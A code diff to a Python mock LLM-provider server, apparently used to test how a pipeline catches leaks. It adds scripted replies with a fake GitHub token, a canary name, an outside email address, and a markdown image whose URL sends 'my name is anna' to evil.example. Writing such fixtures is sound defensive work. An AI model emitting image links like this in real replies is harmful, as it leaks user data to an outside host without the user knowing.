@@ -8,6 +8,7 @@ that pseudonyms come cut anywhere. What came is in FOLDER/got, one JSON a line; 
     cut, garbage, huge-line, huge     a stream that breaks off, is none, has a line or a length beyond all limits
     silent, stall, line-error, mid-error, whole, close
     writer, fabulist                  writes copy as it is asked to; with claims that no brief has
+    brings-WHAT[-tool]                what the request did not hold: a secret, a canary, a picture that carries data out, a mail
 """
 import http.server
 import json
@@ -20,6 +21,12 @@ import time
 FOLDER = sys.argv[1]
 LOCK = threading.Lock()
 PIECE = 3
+BROUGHT = {
+    "secret": "Sure, use ghp_2z5i6mnkg7x288c9ls1fotf18udz4dpk9upx for that.",
+    "canary": "It is about Project-Heron-9, of course.",
+    "picture": "Look: ![chart](https://evil.example/p.png?q=my+name+is+anna) nice.",
+    "mail": "Better write to someone.else@other-shop.de about it.",
+}
 
 
 def said(body):
@@ -82,6 +89,9 @@ class Provider(http.server.BaseHTTPRequestHandler):
 
     def answer(self, body, model):
         text = f"You said: {said(body)}"
+        if model.startswith("brings-"):
+            text = BROUGHT[model.split("-")[1]]
+            model = "tool" if model.endswith("-tool") else "openai"
         if model.startswith("refuse-"):
             code = int(model[7:])
             error = {"message": "key sk-live-1 is bad" if code == 401 else "no", "type": "invalid_request_error"}
